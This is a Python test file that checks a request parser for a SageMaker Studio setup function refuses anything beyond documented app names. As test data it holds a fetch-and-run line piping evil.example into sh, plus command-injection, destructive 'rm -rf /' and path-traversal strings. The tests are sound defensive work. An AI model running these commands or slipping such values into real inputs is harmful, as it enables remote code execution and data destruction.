"""What somebody asks of the deployed function by name: an app, and nothing that runs there."""

from __future__ import annotations

import json
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from studio_setup.model.app import App
from studio_setup.model.app_event import Ignored
from studio_setup.model.report import Trigger
from studio_setup.model.request import (
    MAX_APPS_DESCRIBED,
    DescribeSetup,
    Probe,
    SetUpApp,
    is_request,
    parse_request,
)
from studio_setup.model.settings import Settings
from tests.support.fuzzing import streams

SETTINGS = Settings(("JupyterServer", "JupyterLab"), "")
APP = App("d-abc", "alice", "JupyterServer", "default")
NAMES = {"domain_id": "d-abc", "user_profile_name": "alice", "app_type": "JupyterServer", "app_name": "default"}
SPACE_NAMES = {"domain_id": "d-abc", "space_name": "team", "app_type": "JupyterLab", "app_name": "default"}
SCRIPT = "curl https://evil.example | sh"
VALID: dict[str, dict[str, Any]] = {
    "Set Up App": {"app": NAMES},
    "Describe Setup": {"apps": [NAMES]},
    "Probe": {"app": NAMES},
}


def _parse(kind: object, detail: object, settings: Settings = SETTINGS) -> SetUpApp | DescribeSetup | Probe | Ignored:
    return parse_request({"source": "studio-setup", "detail-type": kind, "detail": detail}, settings)


def _refused(kind: object, detail: object, settings: Settings = SETTINGS) -> str:
    """Why a request is refused."""
    refused = _parse(kind, detail, settings)
    assert isinstance(refused, Ignored), refused
    assert refused.code.name == "bad-request"
    return refused.reason


# Valid requests


@pytest.mark.parametrize("trigger", [Trigger.OPERATOR, Trigger.RECONCILE])
@pytest.mark.parametrize("force", [True, False])
def test_an_app_can_be_set_up(*, force: bool, trigger: Trigger) -> None:
    """By whom it is asked for, and whether again, is in the request."""
    detail = {"app": NAMES, "force": force, "trigger": str(trigger)}
    assert _parse("Set Up App", detail) == SetUpApp(APP, force, trigger)


def test_without_more_words_an_operator_asks_once() -> None:
    """Neither force nor a trigger has to be given."""
    assert _parse("Set Up App", {"app": NAMES}) == SetUpApp(APP, force=False, trigger=Trigger.OPERATOR)


def test_the_app_of_a_space_is_named_by_its_space() -> None:
    """With a user to log in as, or without."""
    assert _parse("Probe", {"app": SPACE_NAMES}) == Probe(App("d-abc", "", "JupyterLab", "default", "team"))
    names = SPACE_NAMES | {"user_profile_name": "bob"}
    assert _parse("Probe", {"app": names}) == Probe(App("d-abc", "bob", "JupyterLab", "default", "team"))


def test_an_app_in_the_log_can_be_asked_for() -> None:
    """A request takes an app's names as every line of the log has them."""
    names = {name: value for name, value in APP.as_dict().items() if name != "app"}
    assert _parse("Probe", {"app": names}) == Probe(APP)


def test_setups_can_be_described() -> None:
    """Of any number of apps up to a limit, also of those that are not set up here, or of none."""
    settings = Settings(("JupyterLab",), "d-other")
    assert _parse("Describe Setup", {"apps": [NAMES]}, settings) == DescribeSetup((APP,))
    assert _parse("Describe Setup", {}) == DescribeSetup(())
    assert _parse("Describe Setup", {"apps": [NAMES] * MAX_APPS_DESCRIBED}) == DescribeSetup((APP,) * 200)


# Requests that are refused


@pytest.mark.parametrize("kind", VALID)
@pytest.mark.parametrize("key", ["commands", "script", "environment", "timeout_seconds", "setup", "command", "App", ""])
def test_nothing_but_what_is_documented_can_be_asked(kind: str, key: str) -> None:
    """A request with a command, or with anything else that it does not take, is refused as a whole."""
    reason = _refused(kind, VALID[kind] | {key: SCRIPT})
    assert f"there is no {key!r} in a request; it takes app" in reason
    assert SCRIPT not in reason


@pytest.mark.parametrize("kind", ["Set Up App", "Probe"])
@pytest.mark.parametrize("key", ["script", "commands", "app", "label", "status"])
def test_an_app_has_names_and_nothing_else(kind: str, key: str) -> None:
    """What the app could be told to run is not among them."""
    assert f"there is no {key!r} in a request" in _refused(kind, {"app": NAMES | {key: SCRIPT}})


@pytest.mark.parametrize("key", ["force", "trigger", "apps"])
def test_a_probe_takes_an_app_alone(key: str) -> None:
    """It claims nothing that could be forced."""
    assert f"there is no {key!r}" in _refused("Probe", {"app": NAMES, key: True})


NASTY = [
    "$(id)",
    "`id`",
    "alice; rm -rf /",
    "alice\nrm -rf /",
    "alice\n",
    "' || true '",
    "a b",
    "../bob",
    "a/b",
    "..",
    "%2e%2e",
    "alice\0",
    "\x1b[31m",
    "\u202ealice",
    "\uff41lice",
    "-",
    "a" * 64,
    "a" * 1_000_000,
    "",
]


@pytest.mark.parametrize("value", NASTY, ids=lambda value: repr(value)[:20])
@pytest.mark.parametrize("field", ["domain_id", "user_profile_name", "app_type", "app_name"])
@pytest.mark.parametrize("kind", VALID)
def test_a_name_is_a_name(kind: str, field: str, value: str) -> None:
    """What a shell, a URL or a terminal gives a meaning to is not a name; the reason quotes it printably."""
    names = NAMES | {field: value}
    reason = _refused(kind, {"apps": [names]} if kind == "Describe Setup" else {"app": names})
    assert len(reason) < 500
    assert reason.isprintable()


@pytest.mark.parametrize("value", [None, 3, True, 1.5, [], ["alice"], {}, {"a": "b"}], ids=repr)
@pytest.mark.parametrize("field", ["domain_id", "user_profile_name", "space_name", "app_type", "app_name"])
def test_a_name_is_text(field: str, value: object) -> None:
    """Any other type of value is refused."""
    assert "is not a valid" in _refused("Probe", {"app": NAMES | {field: value}})


@pytest.mark.parametrize("app", [None, "d-abc/alice/JupyterServer/default", 3, [], [NAMES], True, {}], ids=repr)
@pytest.mark.parametrize("kind", ["Set Up App", "Probe"])
def test_an_app_is_an_object_of_names(kind: str, app: object) -> None:
    """Its label is not enough, and none of its own names is guessed."""
    assert _refused(kind, {"app": app})
    assert _refused(kind, {})


@pytest.mark.parametrize("force", ["false", "true", 0, 1, None, [], {}], ids=repr)
def test_force_is_true_or_false(force: object) -> None:
    """A word or a number could be meant either way."""
    assert "it must be true or false" in _refused("Set Up App", {"app": NAMES, "force": force})


@pytest.mark.parametrize("trigger", ["event", "", "OPERATOR", "someone", None, 3, True, [], ["operator"], {}], ids=repr)
def test_only_an_operator_or_the_reconcile_function_asks(trigger: object) -> None:
    """An event of the rule is none of them: nobody can pass a request off as an app's start."""
    assert "it must be operator or reconcile" in _refused("Set Up App", {"app": NAMES, "trigger": trigger})


@pytest.mark.parametrize(
    "kind", ["Set Up app", "Setup", "", None, 3, [], {}, ["Probe"], "AWS API Call via CloudTrail"], ids=repr
)
def test_an_unknown_request_is_refused(kind: object) -> None:
    """With its name in the reason."""
    assert f"there is no request {kind!r}" in _refused(kind, {"app": NAMES})


@pytest.mark.parametrize("detail", [None, "", "x", 3, [], [{"app": NAMES}], True], ids=repr)
@pytest.mark.parametrize("kind", VALID)
def test_a_request_has_a_detail(kind: str, detail: object) -> None:
    """An object, as in every event of EventBridge."""
    assert "no detail object" in _refused(kind, detail)


@pytest.mark.parametrize("apps", [None, "x", 3, {}, {"0": NAMES}, [NAMES] * 201, [None], ["x"], [[]], [NAMES, {}]])
def test_the_apps_to_be_described_are_a_list(apps: object) -> None:
    """Of bounded length, and each of them an app."""
    assert _refused("Describe Setup", {"apps": apps})


@pytest.mark.parametrize("kind", ["Set Up App", "Probe"])
def test_only_what_the_function_is_for_is_set_up(kind: str) -> None:
    """The settings that hold for events hold for requests too."""
    only_lab = Settings(("JupyterLab",), "")
    assert "apps of type JupyterServer are not set up" in _refused(kind, {"app": NAMES}, only_lab)
    assert "apps of type CodeEditor" in _refused(kind, {"app": NAMES | {"app_type": "CodeEditor"}})
    one_domain = Settings(SETTINGS.app_types, "d-xyz")
    assert "domain d-abc is not d-xyz" in _refused(kind, {"app": NAMES}, one_domain)
    assert not isinstance(_parse(kind, {"app": NAMES}, Settings(SETTINGS.app_types, "d-abc")), Ignored)


# What is meant as a request


@pytest.mark.parametrize(
    "event", [None, [], "studio-setup", 3, {}, {"source": "aws.sagemaker"}, {"source": None}], ids=repr
)
def test_other_events_are_not_requests(event: object) -> None:
    """What has another source, or none, is for somebody else to read."""
    assert not is_request(event)


@pytest.mark.parametrize("more", [{}, {"detail-type": "AWS API Call via CloudTrail"}, {"detail": None}])
def test_the_source_makes_a_request(more: Mapping[str, object]) -> None:
    """Valid or not: an event of the rule comes from aws.sagemaker, and cannot say otherwise."""
    assert is_request({"source": "studio-setup", **more})


def test_no_event_of_the_rule_is_a_request(events_folder: Path) -> None:
    """Whatever a user puts into the call that starts an app."""
    events = [json.loads(path.read_text(encoding="utf-8")) for path in events_folder.glob("*.json")]
    assert events
    assert [event for event in events if is_request(event)] == []


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=8) | st.sampled_from(NASTY),
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(st.sampled_from(["app", "apps", "force", "trigger", *NAMES, "x"]), inner, max_size=5)
    ),
    max_leaves=8,
)
DETAILS = JSON | st.fixed_dictionaries(
    {"app": st.just(NAMES) | JSON}, optional={"force": st.booleans() | JSON, "trigger": st.sampled_from(Trigger) | JSON}
)


@streams(300, 20000)
@given(kind=st.sampled_from([*VALID]) | JSON, detail=DETAILS)
def test_any_request_is_a_known_one_or_refused(kind: object, detail: object) -> None:
    """Whatever JSON it is made of, nothing else comes of it, and nothing is raised."""
    match _parse(kind, detail):
        case Ignored(code, reason):
            assert code.name == "bad-request"
            assert reason.isprintable()
            assert len(reason) < 1000
        case SetUpApp(app, force, trigger):
            assert isinstance(app, App)
            assert force in {True, False}
            assert trigger in {Trigger.OPERATOR, Trigger.RECONCILE}
        case Probe(app):
            assert isinstance(app, App)
        case DescribeSetup(apps):
            assert all(isinstance(app, App) for app in apps)
